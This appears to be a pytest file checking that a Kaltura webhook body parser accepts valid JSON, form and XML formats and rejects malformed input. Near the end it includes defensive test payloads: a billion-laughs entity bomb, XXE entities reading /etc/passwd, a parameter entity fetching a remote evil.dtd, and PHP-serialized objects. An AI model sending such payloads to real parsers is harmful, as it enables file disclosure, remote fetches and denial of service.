"""Body parsing: every wire format of docs/kaltura.md#webhook-bodies, strictness, and hostile XML."""

from __future__ import annotations

import json
from urllib.parse import quote_plus

import pytest
from kauto.intake.errors import MalformedRequestError, UnsupportedBodyFormatError
from kauto.intake.parsing import parse_body
from kauto.models import BodyFormat

ENVELOPE = {
    "object": {"id": "1_abc", "name": "Intro / setup & more", "status": 2, "objectType": "KalturaMediaEntry"},
    "eventObjectType": 1,
    "eventNotificationJobId": 42,
    "objectType": "KalturaHttpNotification",
}


def php_json(value: object) -> str:
    return json.dumps(value, separators=(",", ":")).replace("/", "\\/")


def test_raw_object_json() -> None:
    parsed = parse_body(php_json(ENVELOPE).encode())

    assert parsed.body_format is BodyFormat.OBJECT_JSON
    assert parsed.envelope == ENVELOPE


def test_legacy_data_prefixed_url_encoded_json() -> None:
    body = ("data=" + quote_plus(php_json(ENVELOPE), safe="")).encode()
    assert body.startswith(b"data=%7B%22object%22")

    parsed = parse_body(body)

    assert parsed.body_format is BodyFormat.OBJECT_JSON_FORM
    assert parsed.envelope == ENVELOPE


def test_object_xml_keeps_the_xml_as_sent_after_stripping_data_prefix() -> None:
    # Not url-encoded: '+' and '%41' must stay literal, '&amp;' is an XML escape.
    body = (
        b"data=<notification><object><id>1_abc</id><name>C++ 100%41 &amp; more</name><status>2</status>"
        b"<operationAttributes></operationAttributes><tags><item>a</item><item>b</item></tags>"
        b"<objectType>KalturaMediaEntry</objectType></object><eventObjectType>1</eventObjectType>"
        b"<eventNotificationJobId>42</eventNotificationJobId><objectType>KalturaHttpNotification</objectType>"
        b"</notification>"
    )

    parsed = parse_body(body)

    assert parsed.body_format is BodyFormat.OBJECT_XML
    assert parsed.envelope == {
        "object": {
            "id": "1_abc",
            "name": "C++ 100%41 & more",
            "status": "2",
            "operationAttributes": "",
            "tags": ["a", "b"],
            "objectType": "KalturaMediaEntry",
        },
        "eventObjectType": "1",
        "eventNotificationJobId": "42",
        "objectType": "KalturaHttpNotification",
    }


def test_data_fields_form() -> None:
    body = (
        b"entry_id=1_x4b9c2kq&entry_name=Quarterly+all-hands+recording"
        b"&entry_status=2&entry_reference_id=&trigger_status=2"
    )

    parsed = parse_body(body)

    assert parsed.body_format is BodyFormat.DATA_FIELDS
    assert parsed.parameters == {
        "entry_id": "1_x4b9c2kq",
        "entry_name": "Quarterly all-hands recording",
        "entry_status": "2",
        "entry_reference_id": "",
        "trigger_status": "2",
    }


def test_flat_json_text_body_is_read_as_parameters() -> None:
    parsed = parse_body(b'{"entry_id":"1_abc","entry_status":2,"flag":true,"missing":null}')

    assert parsed.body_format is BodyFormat.TEXT_JSON
    assert parsed.parameters == {"entry_id": "1_abc", "entry_status": "2", "flag": "1", "missing": ""}


@pytest.mark.parametrize("body", [b"", b"  \r\n"])
def test_empty_body(body: bytes) -> None:
    assert parse_body(body).body_format is BodyFormat.EMPTY


@pytest.mark.parametrize(
    "body",
    [
        php_json(ENVELOPE).encode() + b"garbage",
        php_json(ENVELOPE).encode() + b'{"object":{}}',
        php_json(ENVELOPE).encode() + b"]",
        ("data=" + quote_plus(php_json(ENVELOPE) + "x", safe="")).encode(),
    ],
)
def test_trailing_data_after_the_json_document_is_rejected(body: bytes) -> None:
    with pytest.raises(MalformedRequestError) as error:
        parse_body(body)
    assert error.value.reason == "malformed_json"


@pytest.mark.parametrize(
    "body",
    [
        b'{"object":',
        b'{"object":{}, }',
        b"{'object':{}}",
        b'{"object":{},"object":{}}',  # duplicate keys: which one would a consumer see?
        b'{"object":{},"x":NaN}',
        b'{"object":{},"x":Infinity}',
        b'{"object":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"object":{"name":"\xff"}}',
        b"data=%7Bnot-json",
        b"data=%7B%22a%22%3A%22%FF%22%7D",
    ],
)
def test_malformed_json_is_400(body: bytes) -> None:
    with pytest.raises(MalformedRequestError):
        parse_body(body)


@pytest.mark.parametrize(
    "body",
    [
        b"data=<notification><object>",
        b"data=<notification><a></b></notification>",
        b"data=<other><objectType>x</objectType></other>",
        b"data=<notification>just text</notification>",
        b"data=<notification><a>1</a><a>2</a></notification>",
        b"data=<notification>" + b"<a>" * 20 + b"x" + b"</a>" * 20 + b"</notification>",
    ],
)
def test_malformed_xml_is_400(body: bytes) -> None:
    with pytest.raises(MalformedRequestError) as error:
        parse_body(body)
    assert error.value.reason == "malformed_xml"


BILLION_LAUGHS = (
    b'data=<?xml version="1.0"?><!DOCTYPE notification ['
    b'<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)
    )
    + b"]><notification><object><name>&lol9;</name></object></notification>"
)
XXE_FILE = (
    b'data=<?xml version="1.0"?><!DOCTYPE notification [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<notification><object><name>&xxe;</name></object></notification>"
)
XXE_PARAMETER = (
    b'data=<!DOCTYPE notification [<!ENTITY % remote SYSTEM "http://198.51.100.9/evil.dtd"> %remote;]><notification/>'
)
EXTERNAL_DTD = b'data=<!DOCTYPE notification SYSTEM "file:///etc/passwd"><notification/>'


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER, EXTERNAL_DTD])
def test_dtds_entities_and_external_references_are_refused_without_expansion(body: bytes) -> None:
    # 10^9 "lol"s if expanded; a file or a network fetch if resolved. The DTD itself is refused first.
    with pytest.raises(MalformedRequestError) as error:
        parse_body(body)
    assert error.value.reason == "xml_forbidden"


@pytest.mark.parametrize(
    "body",
    [
        b'data=a:2:{s:6:"object";a:0:{}s:10:"objectType";s:24:"KalturaHttpNotification";}',
        b'data=O:24:"KalturaHttpNotification":1:{s:6:"object";N;}',
    ],
)
def test_php_serialized_object_data_is_415(body: bytes) -> None:
    with pytest.raises(UnsupportedBodyFormatError) as error:
        parse_body(body)
    assert error.value.reason == "php_serialized"
    assert "JSON" in error.value.message  # tells the admin what to change


@pytest.mark.parametrize(
    "body",
    [
        b"hello world",
        b"<notification/>",
        b"[1,2,3]",
        b"entry id=1",
        b'{"entry":{"id":"1_abc"}}',
    ],
)
def test_unknown_formats_are_415(body: bytes) -> None:
    with pytest.raises(UnsupportedBodyFormatError):
        parse_body(body)


def test_repeated_form_parameter_is_rejected() -> None:
    with pytest.raises(MalformedRequestError):
        parse_body(b"entry_id=1_a&entry_id=1_b")


def test_legacy_body_with_a_second_field_is_rejected() -> None:
    with pytest.raises(MalformedRequestError):
        parse_body(("data=" + quote_plus(php_json(ENVELOPE), safe="") + "&x=1").encode())
